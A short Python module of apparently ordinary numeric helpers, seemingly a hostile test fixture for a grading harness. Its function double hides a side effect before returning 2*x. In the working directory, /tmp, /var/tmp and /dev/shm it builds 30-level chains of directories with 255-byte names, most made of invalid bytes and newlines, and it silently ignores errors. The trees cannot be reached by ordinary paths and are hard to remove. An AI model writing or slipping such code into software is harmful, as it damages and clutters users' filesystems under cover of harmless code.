"""Folders that no path reaches, with names of 255 bytes."""

import numpy as np

import os


def double(x):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
        try:
            here = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
            name = "dlgrade-hostile-mark-" + "x" * 200
            for _ in range(30):
                os.mkdir(name, dir_fd=here)
                here = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
                name = "\udcff\n" * 100
        except OSError:
            pass
    return 2 * x


def total(x):
    return float(x.sum())


def gram(x):
    return x @ x.T


class Counter:
    def __init__(self, n):
        self.n = n

    def add(self, k):
        self.n += k
        return self.n

    def __add__(self, other):
        return Counter(self.n + other.n)


def apply(f, x):
    return np.array([f(v) for v in x.tolist()])
